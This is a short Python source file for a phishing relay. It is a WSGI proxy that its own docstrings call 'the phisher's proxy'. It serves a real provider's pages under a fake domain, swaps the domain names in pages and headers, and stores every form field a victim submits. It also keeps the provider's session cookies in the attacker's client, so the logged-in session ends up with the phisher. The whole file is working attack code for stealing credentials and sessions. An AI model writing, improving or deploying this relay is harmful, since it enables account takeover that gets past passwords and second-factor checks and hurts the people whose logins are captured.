"""The phisher's proxy between a victim and a provider: it shows the real pages under a name of its own, and keeps what passes."""
from collections.abc import Callable, Iterable

import httpx
from werkzeug.wrappers import Request, Response

NOT_PASSED_ON = {"host", "cookie", "content-length", "connection", "accept-encoding", "transfer-encoding", "content-encoding", "set-cookie"}


class Relay:
    """A WSGI app under the origin `fake` that asks `real` for everything. It forges nothing, breaks no cipher and guesses no password.

    `network` is the phisher's own browser: cookies that the provider sets stay in it, so in the end the session is there and nowhere
    else. `typed` is what the victim sent in forms. `rewrite` may change a page before the victim sees it. One victim at a time.
    """

    def __init__(self, network: httpx.Client, real: str, fake: str, rewrite: Callable[[str], str] = str):
        self.network, self.real, self.fake, self.rewrite = network, real, fake, rewrite
        self.typed: dict[str, str] = {}

    def __call__(self, environ, start_response):
        request = Request(environ)
        body = request.get_data()
        self.typed |= request.form.to_dict()
        headers = passed_on(request.headers, self.fake, self.real)
        answer = self.network.request(request.method, self.real + request.full_path, headers=headers, content=body)
        headers = passed_on(answer.headers.multi_items(), self.real, self.fake)
        page = self.rewrite(answer.text.replace(self.real, self.fake))
        return Response(page, answer.status_code, headers)(environ, start_response)


def passed_on(headers: Iterable[tuple[str, str]], old: str, new: str) -> list[tuple[str, str]]:
    """The headers that a relay hands on, with its own name in the place of the provider's or the other way round."""
    return [(name, value.replace(old, new)) for name, value in headers if name.lower() not in NOT_PASSED_ON]
